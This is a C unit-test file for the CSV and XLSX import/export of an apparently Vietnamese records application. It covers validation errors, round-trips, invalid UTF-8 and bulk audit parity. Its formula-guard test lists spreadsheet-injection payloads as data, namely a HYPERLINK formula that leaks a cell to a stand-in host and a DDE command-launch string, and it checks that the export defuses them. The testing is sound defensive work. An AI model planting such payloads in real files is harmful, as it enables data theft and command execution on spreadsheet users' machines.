/* test_csvio.c - CSV import is all or nothing and names each bad line and
 * field; export and import round-trip. */
#include "testutil.h"

#include "base/buf.h"
#include "domain/csvio.h"
#include "text/text.h"

#include <xlsxwriter.h>

/* loads its fixtures as `giapranh import` does: a system actor that may
 * create records in any workflow state (workflow.h, "History loads") */
static const struct actor tester = { .name = "test", .history = true };

static int64_t
count(struct store *s, const char *entity)
{
	int64_t n = -1;

	assert_int_equal(store_count(s, registry_find(entity), &n, NULL), 0);
	return n;
}

static bool
has_error(const json_t *errors, long line, const char *field)
{
	size_t i;
	json_t *er;

	json_array_foreach(errors, i, er) {
		const char *f = json_string_value(json_object_get(er, "field"));
		if (json_integer_value(json_object_get(er, "line")) == line &&
		    ((field == NULL && f == NULL) || (field && f && strcmp(f, field) == 0)))
			return true;
	}
	return false;
}

static const char bad_csv[] =
    "full_name,gender,note\n"
    "Hoàng Văn Dương,male,Chủ tịch UBND huyện Si Ma Cai\n"
    "Đinh Văn Đăng,robot,\n"          /* line 3: gender not in catalog */
    ",female,không tên\n"             /* line 4: name required */
    "Ngô Văn Tăng,male,\"Phó chủ tịch, Xín Mần\"\n";

static void
test_bad_row_imports_nothing(void **state)
{
	struct store *s = tu_store(0, NULL, 0);
	struct import_result res;
	struct err e = { 0 };

	(void)state;
	assert_int_equal(csv_import_buffer(s, registry_find("person"), bad_csv,
	    strlen(bad_csv), false, &tester, &res, &e), -1);
	assert_int_equal(e.code, ERR_INVALID);
	assert_int_equal(res.rows, 4);
	assert_int_equal(res.rejected, 2);
	assert_int_equal(res.imported, 0);
	assert_true(has_error(res.errors, 3, "gender"));
	assert_true(has_error(res.errors, 4, "full_name"));
	assert_int_equal(count(s, "person"), 0);
	assert_int_equal(count(s, "audit_log"), 0);
	json_decref(res.errors);
	err_clear(&e);
	store_close(s);
}

static void
test_skip_invalid_imports_good_rows(void **state)
{
	struct store *s = tu_store(0, NULL, 0);
	struct import_result res;
	struct err e = { 0 };

	(void)state;
	assert_int_equal(csv_import_buffer(s, registry_find("person"), bad_csv,
	    strlen(bad_csv), true, &tester, &res, &e), 0);
	assert_int_equal(res.imported, 2);
	assert_int_equal(res.rejected, 2);
	assert_int_equal(count(s, "person"), 2);
	json_decref(res.errors);
	store_close(s);
}

static const struct {
	const char *csv;
	long line;
	const char *field; /* NULL: the row as a whole */
} header_cases[] = {
	{ "full_name,shoe_size\nA,42\n", 1, "shoe_size" },
	{ "full_name,gender\nA\n", 2, NULL },
	{ "full_name\n\"unterminated\n", 0, NULL },
};

static void
test_malformed_files(void **state)
{
	struct store *s = tu_store(0, NULL, 0);
	struct import_result res;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(header_cases) / sizeof(header_cases[0]); i++) {
		struct err e = { 0 };
		assert_int_equal(csv_import_buffer(s, registry_find("person"),
		    header_cases[i].csv, strlen(header_cases[i].csv), false, &tester,
		    &res, &e), -1);
		if (header_cases[i].line > 0)
			assert_true(has_error(res.errors, header_cases[i].line,
			    header_cases[i].field));
		else
			assert_int_equal(e.code, ERR_BAD_REQUEST);
		json_decref(res.errors);
		err_clear(&e);
	}
	assert_int_equal(count(s, "person"), 0);
	store_close(s);
}

static void
test_export_import_round_trip(void **state)
{
	struct store *a = tu_store(0, NULL, 0), *b = tu_store(0, NULL, 0);
	const char good[] = "full_name,note\n\"Lý Xuân Thành\",\"a \"\"quoted\"\", note\"\n"
	    "Nông Thị Hà,\n";
	struct import_result res;
	struct err e = { 0 };
	char *buf1 = NULL, *buf2 = NULL;
	size_t len1 = 0, len2 = 0;
	FILE *f;

	(void)state;
	assert_int_equal(csv_import_buffer(a, registry_find("person"), good,
	    strlen(good), false, &tester, &res, &e), 0);
	json_decref(res.errors);
	f = open_memstream(&buf1, &len1);
	assert_int_equal(csv_export(a, registry_find("person"), f, &e), 0);
	fclose(f);
	assert_int_equal(csv_import_buffer(b, registry_find("person"), buf1, len1,
	    false, &tester, &res, &e), 0);
	assert_int_equal(res.imported, 2);
	json_decref(res.errors);
	f = open_memstream(&buf2, &len2);
	assert_int_equal(csv_export(b, registry_find("person"), f, &e), 0);
	fclose(f);
	assert_string_equal(buf1, buf2);
	assert_non_null(strstr(buf1, "\"a \"\"quoted\"\", note\""));
	free(buf1);
	free(buf2);
	store_close(a);
	store_close(b);
}

/* ---- formula guard and long texts: every CSV we write ---------------------- */

/* Texts a spreadsheet would run (and two it would not): the export puts an
 * apostrophe before the first kind, the import takes it off. */
static const struct {
	const char *text;
	bool guarded;
} formula_cells[] = {
	{ "=HYPERLINK(\"http://x.example/?\"&A1,\"Bấm vào\")", true },
	{ "+84 912 345 678", true },
	{ "-2+3", true },
	{ "@SUM(A1:A9)", true },
	{ "=cmd|' /C calc'!A0", true },      /* DDE (a tab or CR first is trimmed) */
	{ "'=1+1", true },                   /* an apostrophe a user typed */
	{ "- gạch đầu dòng", false },
	{ "Lý Xuân Thành", false },
};

static char *
export_of(struct store *s, const char *entity, size_t *len)
{
	struct err e = { 0 };
	char *out = NULL;
	FILE *f = open_memstream(&out, len);

	assert_int_equal(csv_export(s, registry_find(entity), f, &e), 0);
	fclose(f);
	return out;
}

static void
test_export_guards_formulas_whole_and_round_trips(void **state)
{
	struct store *a = tu_store(0, NULL, 0), *b = tu_store(0, NULL, 0);
	const struct entity_def *program = registry_find("program");
	struct import_result res;
	struct err e = { 0 };
	struct buf in, note;
	json_t *rows, *row, *rec;
	char *out1, *out2;
	size_t len1, len2, i, j;

	(void)state;
	/* a long description of 60,000 three-byte characters: 180,000
	 * bytes, far past the 64 KiB at which the export used to cut it */
	buf_init(&note, 200000);
	for (i = 0; i < 60000; i++)
		buf_adds(&note, "ấ");
	buf_init(&in, 1 << 20);
	buf_adds(&in, "name,description\n");
	for (i = 0; i < sizeof(formula_cells) / sizeof(formula_cells[0]); i++) {
		/* written as the export writes them: the import takes a guard off */
		buf_adds(&in, text_formula_like(formula_cells[i].text) ? "\"'" : "\"");
		for (const char *p = formula_cells[i].text; *p; p++) {
			if (*p == '"')
				buf_addc(&in, '"');
			buf_addc(&in, *p);
		}
		buf_addf(&in, "\",%s\n", i == 0 ? buf_str(&note) : "");
	}
	assert_false(buf_failed(&in));
	if (csv_import_buffer(a, program, buf_str(&in), in.len, false, &tester, &res, &e) != 0)
		fail_msg("import: %s %s", e.msg, json_dumps(res.errors, 0));
	json_decref(res.errors);

	out1 = export_of(a, "program", &len1);
	rows = csv_parse_rows(out1, len1, &e);
	assert_non_null(rows);
	assert_int_equal(json_array_size(rows),
	    1 + sizeof(formula_cells) / sizeof(formula_cells[0]));
	json_array_foreach(rows, i, row) {
		const char *name = json_string_value(json_array_get(row, 1));
		if (i == 0)
			continue;
		/* exported in id order, as imported */
		j = i - 1;
		if (formula_cells[j].guarded) {
			if (name[0] != '\'' || strcmp(name + 1, formula_cells[j].text) != 0)
				fail_msg("row %zu not guarded: [%s]", i, name);
		} else {
			assert_string_equal(name, formula_cells[j].text);
		}
		/* no cell of the export starts a formula */
		for (size_t k = 0; k < json_array_size(row); k++)
			if (text_formula_like(json_string_value(json_array_get(row, k))) &&
			    json_string_value(json_array_get(row, k))[0] != '\'')
				fail_msg("formula cell %zu of row %zu", k, i);
	}
	/* the long description, whole (the column before "illustrative") */
	row = json_array_get(rows, 1);
	assert_int_equal(json_string_length(json_array_get(row, json_array_size(row) - 2)),
	    note.len);
	json_decref(rows);

	/* and back: the same records, the same export */
	if (csv_import_buffer(b, program, out1, len1, false, &tester, &res, &e) != 0)
		fail_msg("re-import: %s %s", e.msg, json_dumps(res.errors, 0));
	json_decref(res.errors);
	for (i = 0; i < sizeof(formula_cells) / sizeof(formula_cells[0]); i++) {
		rec = store_get(b, program, (int64_t)i + 1, &e);
		assert_non_null(rec);
		assert_string_equal(json_string_value(json_object_get(rec, "name")),
		    formula_cells[i].text);
		if (i == 0)
			assert_string_equal(json_string_value(json_object_get(rec, "description")),
			    buf_str(&note));
		json_decref(rec);
	}
	out2 = export_of(b, "program", &len2);
	assert_int_equal(len1, len2);
	assert_memory_equal(out1, out2, len1);
	free(out1);
	free(out2);
	buf_free(&in);
	buf_free(&note);
	store_close(a);
	store_close(b);
}

/* ---- cells that are not text: refused, naming line and field --------------- */

static const struct {
	const char *csv;
	size_t len;          /* the bytes (a NUL inside)           */
	long line;
	const char *field;   /* NULL: the header, by its column    */
} not_text_cases[] = {
#define C(s) s, sizeof(s) - 1
	{ C("full_name,note\nA,x\nB\xFF\xFE,y\n"), 3, "full_name" },
	{ C("full_name,note\nA,x\nB,y\x00z\n"), 3, "note" },
	{ C("full_name,note\nA,x\n\"C\xC3\x28\",y\n"), 3, "full_name" },
	{ C("full_name,note\nA,x\nB,\xED\xA0\x80\n"), 3, "note" },     /* a surrogate */
	{ C("full_name,illustrative\nA,\xFF\n"), 2, "illustrative" },
	{ C("full_name,gender\nA,ma\x00le\n"), 2, "gender" },
	{ C("full_name,no\xFFte\nA,x\n"), 1, NULL },
	{ C("full_name,no\x00te\nA,x\n"), 1, NULL },
#undef C
};

static void
test_cells_not_text_name_line_and_field(void **state)
{
	struct store *s = tu_store(0, NULL, 0);
	struct import_result res;
	size_t i;

	(void)state;
	for (i = 0; i < sizeof(not_text_cases) / sizeof(not_text_cases[0]); i++) {
		struct err e = { 0 };
		if (csv_import_buffer(s, registry_find("person"), not_text_cases[i].csv,
		    not_text_cases[i].len, false, &tester, &res, &e) != -1)
			fail_msg("case %zu imported", i);
		/* the client's error, never "out of memory" */
		if (e.code != ERR_INVALID)
			fail_msg("case %zu: %s (%s)", i, err_code_name(e.code), e.msg);
		if (!has_error(res.errors, not_text_cases[i].line, not_text_cases[i].field))
			fail_msg("case %zu: %s", i, json_dumps(res.errors, 0));
		json_decref(res.errors);
		err_clear(&e);
	}
	assert_int_equal(count(s, "person"), 0);
	store_close(s);
}

/* A spreadsheet made by libxlsxwriter imports like a CSV file: shared
 * strings, numbers, trailing empty cells, and a bad row refuses them all. */
static void
test_xlsx_import(void **state)
{
	struct store *s = tu_store(0, NULL, 0);
	struct import_result res;
	struct err e = { 0 };
	char path[300];
	lxw_workbook *wb;
	lxw_worksheet *ws;
	size_t len;
	char *data;

	(void)state;
	snprintf(path, sizeof(path), "%s/people.xlsx", tu_tmpdir());
	wb = workbook_new(path);
	ws = workbook_add_worksheet(wb, NULL);
	worksheet_write_string(ws, 0, 0, "full_name", NULL);
	worksheet_write_string(ws, 0, 1, "gender", NULL);
	worksheet_write_string(ws, 0, 2, "note", NULL);
	worksheet_write_string(ws, 1, 0, "Nông Thị Hà", NULL);
	worksheet_write_string(ws, 1, 1, "female", NULL);
	worksheet_write_number(ws, 1, 2, 184.5, NULL);
	worksheet_write_string(ws, 2, 0, "Cầm Ngọc Minh & <Sơn La>", NULL);
	assert_int_equal(workbook_close(wb), LXW_NO_ERROR);
	data = read_file(path, 1 << 20, &len, &e);
	assert_non_null(data);
	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), data, len,
	    false, &tester, &res, &e), 0);
	assert_int_equal(res.imported, 2);
	json_decref(res.errors);
	free(data);
	{
		struct list_query q;
		json_t *rows;
		memset(&q, 0, sizeof(q));
		q.search = "cam ngoc minh";
		assert_int_equal(store_list(s, registry_find("person"), &q, &rows, NULL, &e), 0);
		assert_string_equal(json_string_value(json_object_get(json_array_get(rows, 0),
		    "full_name")), "Cầm Ngọc Minh & <Sơn La>");
		json_decref(rows);
	}

	/* a bad row: nothing */
	wb = workbook_new(path);
	ws = workbook_add_worksheet(wb, NULL);
	worksheet_write_string(ws, 0, 0, "full_name", NULL);
	worksheet_write_string(ws, 0, 1, "gender", NULL);
	worksheet_write_string(ws, 1, 0, "A", NULL);
	worksheet_write_string(ws, 2, 0, "B", NULL);
	worksheet_write_string(ws, 2, 1, "robot", NULL);
	assert_int_equal(workbook_close(wb), LXW_NO_ERROR);
	data = read_file(path, 1 << 20, &len, &e);
	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), data, len,
	    false, &tester, &res, &e), -1);
	assert_true(has_error(res.errors, 3, "gender"));
	assert_int_equal(count(s, "person"), 2);
	json_decref(res.errors);
	err_clear(&e);
	free(data);

	/* a shared string that is not UTF-8 (row 3) is its cell's error, and
	 * the strings after it keep their index (row 4 is read right) */
	wb = workbook_new(path);
	ws = workbook_add_worksheet(wb, NULL);
	worksheet_write_string(ws, 0, 0, "full_name", NULL);
	worksheet_write_string(ws, 0, 1, "note", NULL);
	worksheet_write_string(ws, 1, 0, "Giàng Seo Phử", NULL);
	worksheet_write_string(ws, 2, 0, "B\xFF\xFE", NULL);
	worksheet_write_string(ws, 3, 0, "Sùng Mí Pà", NULL);
	worksheet_write_string(ws, 3, 1, "ghi chú", NULL);
	assert_int_equal(workbook_close(wb), LXW_NO_ERROR);
	data = read_file(path, 1 << 20, &len, &e);
	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), data, len,
	    true, &tester, &res, &e), 0);
	assert_true(has_error(res.errors, 3, "full_name"));
	assert_int_equal(res.imported, 2);
	json_decref(res.errors);
	free(data);
	{
		struct list_query q;
		json_t *rows;
		memset(&q, 0, sizeof(q));
		q.search = "sung mi pa";
		assert_int_equal(store_list(s, registry_find("person"), &q, &rows, NULL, &e), 0);
		assert_string_equal(json_string_value(json_object_get(json_array_get(rows, 0),
		    "note")), "ghi chú");
		json_decref(rows);
	}

	/* not a spreadsheet at all */
	assert_int_equal(xlsx_import_buffer(s, registry_find("person"), "PK\3\4junk", 8,
	    false, &tester, &res, &e), -1);
	assert_int_equal(e.code, ERR_BAD_REQUEST);
	json_decref(res.errors);
	err_clear(&e);
	store_close(s);
}

/* ---- the bulk path writes what the generic path writes -------------------- */

static int64_t
create(struct store *s, const char *entity, const char *json)
{
	json_t *in = json_loads(json, 0, NULL), *out = NULL;
	struct err e = { 0 };
	int64_t id;

	assert_non_null(in);
	if (records_create(s, registry_find(entity), in, &tester, 0, &out, &e) != 0)
		fail_msg("%s: %s", entity, e.msg);
	id = json_integer_value(json_object_get(out, "id"));
	json_decref(in);
	json_decref(out);
	return id;
}

/* The after_json of the audit entry of a record. */
static json_t *
audit_after(struct store *s, const char *entity, int64_t id, char **text)
{
	struct list_query q;
	json_t *rows, *after;
	struct err e = { 0 };
	json_t *idv = json_integer(id), *entv = json_string(entity);

	memset(&q, 0, sizeof(q));
	q.see_confidential = true;
	q.filters[0] = (struct list_filter){ "entity", OP_EQ, entv };
	q.filters[1] = (struct list_filter){ "record_id", OP_EQ, idv };
	q.nfilters = 2;
	assert_int_equal(store_list(s, registry_find("audit_log"), &q, &rows, NULL, &e), 0);
	assert_int_equal(json_array_size(rows), 1);
	*text = strdup(json_string_value(json_object_get(json_array_get(rows, 0),
	    "after_json")));
	after = json_loads(*text, 0, NULL);
	assert_non_null(after);
	json_decref(rows);
	json_decref(idv);
	json_decref(entv);
	return after;
}

/* One CSV row through csv_import_buffer (the bulk path) and the same cells
 * through records_create (the generic path): the audit entries' after_json
 * hold the same record (ids and timestamps aside), and the bulk one is
 * byte for byte json_dumps of the stored record, as records_audit writes. */
static void
compare_paths(struct store *s, const char *entity, const char *header,
    const char *bulk_row, const char *generic_row)
{
	const struct entity_def *ent = registry_find(entity);
	char csv[2048], *bulk_text, *gen_text, *dumped;
	json_t *rows, *obj, *a, *b, *stored;
	struct import_result res;
	struct err e = { 0 };
	int64_t bulk_id, gen_id, before;
	size_t i;

	/* the generic path, from the same cells as the import would read */
	snprintf(csv, sizeof(csv), "%s\n%s\n", header, generic_row);
	rows = csv_parse_rows(csv, strlen(csv), &e);
	assert_non_null(rows);
	obj = json_object();
	for (i = 0; i < json_array_size(json_array_get(rows, 0)); i++) {
		json_t *cell = json_array_get(json_array_get(rows, 1), i);
		if (json_string_length(cell) > 0)
			json_object_set(obj, json_string_value(json_array_get(
			    json_array_get(rows, 0), i)), cell);
	}
	{
		json_t *out = NULL;
		if (records_create(s, ent, obj, &tester, 0, &out, &e) != 0)
			fail_msg("%s: %s %s", entity, e.msg,
			    e.fields ? json_dumps(e.fields, 0) : "");
		gen_id = json_integer_value(json_object_get(out, "id"));
		json_decref(out);
	}
	json_decref(obj);
	json_decref(rows);

	assert_int_equal(store_count(s, ent, &before, NULL), 0);
	snprintf(csv, sizeof(csv), "%s\n%s\n", header, bulk_row);
	if (csv_import_buffer(s, ent, csv, strlen(csv), false, &tester, &res, &e) != 0)
		fail_msg("%s: %s %s", entity, e.msg, json_dumps(res.errors, 0));
	assert_int_equal(res.imported, 1);
	json_decref(res.errors);
	bulk_id = gen_id + 1; /* the next id on both engines */
	stored = store_get(s, ent, bulk_id, &e);
	assert_non_null(stored);

	a = audit_after(s, entity, gen_id, &gen_text);
	b = audit_after(s, entity, bulk_id, &bulk_text);
	dumped = json_dumps(stored, JSON_COMPACT | JSON_SORT_KEYS);
	assert_string_equal(bulk_text, dumped);
	assert_int_equal(json_integer_value(json_object_get(b, "id")), bulk_id);
	assert_int_equal(json_integer_value(json_object_get(b, "version")), 1);
	for (i = 0; i < 2; i++) {
		json_t *x = i ? b : a;
		json_object_del(x, "id");
		json_object_del(x, "created_at");
		json_object_del(x, "updated_at");
	}
	/* the rows differ only where the test made them differ (a unique key) */
	json_object_del(a, "period");
	json_object_del(b, "period");
	if (!json_equal(a, b))
		fail_msg("%s: generic %s, bulk %s", entity, gen_text, bulk_text);
	free(dumped);
	free(gen_text);
	free(bulk_text);
	json_decref(a);
	json_decref(b);
	json_decref(stored);
}

static void
test_bulk_audit_same_as_generic(void **state)
{
	struct store *s = tu_store(1, NULL, 0);
	struct list_query q;
	json_t *units;
	struct err e = { 0 };
	int64_t unit, ts, grp, ind, act;
	char json[512], row1[512], row2[512];

	(void)state;
	memset(&q, 0, sizeof(q));
	q.limit = 1;
	assert_int_equal(store_list(s, registry_find("admin_unit"), &q, &units, NULL, &e), 0);
	unit = json_integer_value(json_object_get(json_array_get(units, 0), "id"));
	json_decref(units);
	snprintf(json, sizeof(json), "{\"name\": \"Bộ chỉ tiêu\", \"unit_id\": %lld, "
	    "\"term_start\": 2021, \"term_end\": 2025}", (long long)unit);
	ts = create(s, "target_set", json);
	snprintf(json, sizeof(json), "{\"target_set_id\": %lld, \"number\": 1, "
	    "\"name\": \"Nhóm 1\"}", (long long)ts);
	grp = create(s, "target_group", json);
	snprintf(json, sizeof(json), "{\"target_group_id\": %lld, \"code\": \"A1\", "
	    "\"name\": \"Chỉ tiêu\", \"direction\": \"higher\", \"value_kind\": \"number\"}",
	    (long long)grp);
	ind = create(s, "indicator", json);

	/* numbers as people write them: whole, tenths, Vietnamese grouping,
	 * a decimal comma, huge and tiny; text with what JSON escapes */
	snprintf(row1, sizeof(row1), "%lld,%lld,2023,500,737.3,\"23.000\",\"184,5\","
	    "100000000000000000000,0.1,2023-06-30,trên,approved,\"Ghi chú \"\"trích\"\"\tvà\\ \x01 "
	    "xuống\ndòng – đã duyệt\",1", (long long)ind, (long long)unit);
	snprintf(row2, sizeof(row2), "%lld,%lld,2024,500,737.3,\"23.000\",\"184,5\","
	    "100000000000000000000,0.1,2023-06-30,trên,approved,\"Ghi chú \"\"trích\"\"\tvà\\ \x01 "
	    "xuống\ndòng – đã duyệt\",1", (long long)ind, (long long)unit);
	compare_paths(s, "indicator_value", "indicator_id,unit_id,period,target,"
	    "actual,numerator,denominator,target_numerator,target_denominator,"
	    "as_of,qualifier,status,comment,illustrative", row2, row1);

	snprintf(row1, sizeof(row1), "patrol,\"Tuần tra  song phương, mốc 12\","
	    "01/02/2023,2023-02-10,2023-02,%lld,có,0,\"Mô tả\n/dài/\"",
	    (long long)unit);
	compare_paths(s, "activity", "kind,title,start_on,end_on,period,unit_id,"
	    "bilateral,is_total,description", row1, row1);

	act = 0;
	{
		int64_t n = 0;
		assert_int_equal(store_count(s, registry_find("activity"), &n, NULL), 0);
		act = n; /* ids 1..n */
	}
	snprintf(row1, sizeof(row1), "%lld,sessions,\"4.932\",cuộc,gần",
	    (long long)act);
	compare_paths(s, "activity_quantity", "activity_id,measure,value,"
	    "unit_of_measure,qualifier", row1, row1);
	store_close(s);
}

/* A key already taken, or taken twice in one file, is named by line (on
 * PostgreSQL this is the batch that COPY refuses, written again row by
 * row to find it); nothing is written unless bad rows may be skipped. */
static void
test_bulk_duplicate_key(void **state)
{
	struct store *s = tu_store(1, NULL, 0);
	const struct entity_def *iv = registry_find("indicator_value");
	struct import_result res;
	struct list_query q;
	struct err e = { 0 };
	struct buf csv;
	json_t *units;
	int64_t unit, ts, grp, ind, n, audits;
	char json[512];
	int i;

	(void)state;
	memset(&q, 0, sizeof(q));
	q.limit = 1;
	assert_int_equal(store_list(s, registry_find("admin_unit"), &q, &units, NULL, &e), 0);
	unit = json_integer_value(json_object_get(json_array_get(units, 0), "id"));
	json_decref(units);
	snprintf(json, sizeof(json), "{\"name\": \"B\", \"unit_id\": %lld, "
	    "\"term_start\": 2021, \"term_end\": 2025}", (long long)unit);
	ts = create(s, "target_set", json);
	snprintf(json, sizeof(json), "{\"target_set_id\": %lld, \"number\": 1, "
	    "\"name\": \"N\"}", (long long)ts);
	grp = create(s, "target_group", json);
	snprintf(json, sizeof(json), "{\"target_group_id\": %lld, \"code\": \"A\", "
	    "\"name\": \"C\", \"direction\": \"higher\", \"value_kind\": \"number\"}",
	    (long long)grp);
	ind = create(s, "indicator", json);
	snprintf(json, sizeof(json), "{\"indicator_id\": %lld, \"unit_id\": %lld, "
	    "\"period\": \"2020-07\", \"actual\": 1, \"status\": \"draft\"}",
	    (long long)ind, (long long)unit);
	create(s, "indicator_value", json);
	assert_int_equal(store_count(s, registry_find("audit_log"), &audits, NULL), 0);

	/* more rows than a batch, one key already in the database (line 9) and
	 * one taken twice in the file (line 7012 repeats line 12) */
	buf_init(&csv, 1 << 24);
	buf_adds(&csv, "indicator_id,unit_id,period,actual,status\n");
	for (i = 0; i < 7200; i++) {
		int k = i == 7010 ? 10 : i;
		if (i == 7)
			buf_addf(&csv, "%lld,%lld,2020-07,1,draft\n", (long long)ind,
			    (long long)unit);
		else /* a period of its own per k: the ranges 1900-1901 … 1971-2071 */
			buf_addf(&csv, "%lld,%lld,%d-%d,%d.5,approved\n", (long long)ind,
			    (long long)unit, 1900 + k / 100, 1901 + k / 100 + k % 100, i);
	}
	assert_int_equal(csv_import_buffer(s, iv, buf_str(&csv), csv.len, false,
	    &tester, &res, &e), -1);
	assert_int_equal(e.code, ERR_INVALID);
	assert_int_equal(res.rejected, 2);
	assert_true(has_error(res.errors, 9, NULL));
	assert_true(has_error(res.errors, 7012, NULL));
	assert_non_null(strstr(json_string_value(json_object_get(json_array_get(
	    res.errors, 0), "message")), "trùng khóa"));
	assert_int_equal(store_count(s, iv, &n, NULL), 0);
	assert_int_equal(n, 1);
	json_decref(res.errors);
	err_clear(&e);

	assert_int_equal(csv_import_buffer(s, iv, buf_str(&csv), csv.len, true,
	    &tester, &res, &e), 0);
	assert_int_equal(res.imported, 7198);
	assert_int_equal(res.rejected, 2);
	assert_int_equal(store_count(s, iv, &n, NULL), 0);
	assert_int_equal(n, 7199);
	assert_int_equal(store_count(s, registry_find("audit_log"), &n, NULL), 0);
	assert_int_equal(n, audits + 7198);
	json_decref(res.errors);
	buf_free(&csv);
	store_close(s);
}

int
main(void)
{
	const struct CMUnitTest tests[] = {
		cmocka_unit_test(test_bad_row_imports_nothing),
		cmocka_unit_test(test_skip_invalid_imports_good_rows),
		cmocka_unit_test(test_malformed_files),
		cmocka_unit_test(test_export_import_round_trip),
		cmocka_unit_test(test_export_guards_formulas_whole_and_round_trips),
		cmocka_unit_test(test_cells_not_text_name_line_and_field),
		cmocka_unit_test(test_xlsx_import),
		cmocka_unit_test(test_bulk_audit_same_as_generic),
		cmocka_unit_test(test_bulk_duplicate_key),
	};
	return cmocka_run_group_tests_name("csvio", tests, NULL, NULL);
}
